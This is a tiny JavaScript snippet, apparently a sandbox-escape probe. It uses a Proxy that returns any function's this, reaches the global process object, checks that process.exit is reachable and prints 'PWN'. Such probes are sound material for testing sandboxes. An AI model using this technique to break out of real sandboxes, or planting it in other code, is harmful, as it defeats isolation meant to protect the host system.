// A proxy that answers for call.
const p = new Proxy({}, {get: () => (t) => t}); function g() { return p.call(this); } console.log('PWN', typeof g().process.exit);
